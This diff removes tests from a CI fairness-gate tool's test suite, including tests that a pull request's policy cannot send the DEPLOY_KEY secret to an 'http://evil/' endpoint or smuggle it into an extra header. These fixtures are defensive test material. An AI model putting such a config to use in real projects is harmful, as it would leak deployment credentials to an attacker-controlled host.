@@ -5,9 +5,6 @@ import http.server
 import pytest
 from action.repositories import POLICY
 from fakes.serving import Answering, served
-from fakes.toy_system import toy_kind
-
-from fairgate.systems.catalogue import registered
 
 KEY = "sesame-of-this-job"
 ASKING = """\
@@ -99,70 +96,6 @@ def test_an_introduced_policy_asks_nobody(history, job, endpoint, key):
         assert (key or "without a key") in job.summary
         history.git("checkout", "--quiet", "topic")
     assert endpoint.seen == []
-
-
-def test_an_introduction_of_too_many_cases_is_refused_before_it_is_planned(
-    history, job, monkeypatch
-):
-    """Beside a policy of the base: test_size_of_a_proposal."""
-    history.branch()
-    terms = "".join(f"  - {{term: t{i}, noun_phrase: A t{i} person}}\n" for i in range(60))
-    history.write("terms.yaml", f"id: many\nterms:\n{terms}")
-    text = POLICY.replace("gender]", "gender, terms.yaml]").replace("name: small", "name: new")
-    history.write("policies/new.yaml", text)
-    history.commit()
-    monkeypatch.setattr("fairgate.gate.loaded_policy.MOST_CASES", 800)
-    planned = []
-    monkeypatch.setattr("fairgate.suites.metamorphic.suite.build_plan", planned.append)
-    assert job.pull(history, FAIRGATE_POLICY="policies/new.yaml") == 2
-    assert planned == []
-    assert "cases" in job.out
-    assert "`limit`" in job.out
-
-
-TOY = """\
-version: 1
-name: small
-system: {{toy: {{url: "{url}"{headers}}}}}
-suites:
-  - id: sentiment
-    task: sentiment
-    sources: sources.jsonl
-    perturbations: [race, gender]
-gates:
-  - {{parity: unreadable, max: 0.02}}
-"""
-
-
-@pytest.mark.parametrize("headers", ["", ", headers_env: {Authorization: DEPLOY_KEY}"])
-def test_what_any_kind_of_system_would_send_is_not_sent(history, job, headers):
-    """A kind that the check has never heard of: it cannot forget to say what it reaches."""
-    toy = toy_kind()
-    with registered(toy):
-        history.proposes(
-            files={"policies/small.yaml": TOY.format(url="http://evil/", headers=headers)}
-        )
-        for allow in ("refuse", "allow"):
-            assert job.pull(history, DEPLOY_KEY=KEY, FAIRGATE_BASELINE_CHANGE=allow) == 0
-            assert "was not run" in job.summary
-            assert "evil" in job.summary
-            history.git("checkout", "--quiet", "topic")
-        assert (toy.sent, toy.asked) == ([], 0)
-
-
-def test_a_known_address_gets_no_other_secret(history, job):
-    toy = toy_kind()
-    with registered(toy):
-        known = TOY.format(url="http://known/", headers=", headers_env: {Authorization: KNOWN}")
-        history.write("policies/small.yaml", known)
-        (history.root / "baselines" / "small.json").unlink()
-        history.commit()
-        history.proposes(
-            files={"policies/small.yaml": known.replace("KNOWN}", "KNOWN, X-Other: DEPLOY_KEY}")}
-        )
-        job.pull(history, DEPLOY_KEY=KEY, KNOWN="known")
-        assert set(toy.sent) == {"known"}
-        assert "DEPLOY_KEY" in job.summary
 
 
 def test_another_name_is_listed_with_the_baseline_that_it_takes(history, job):
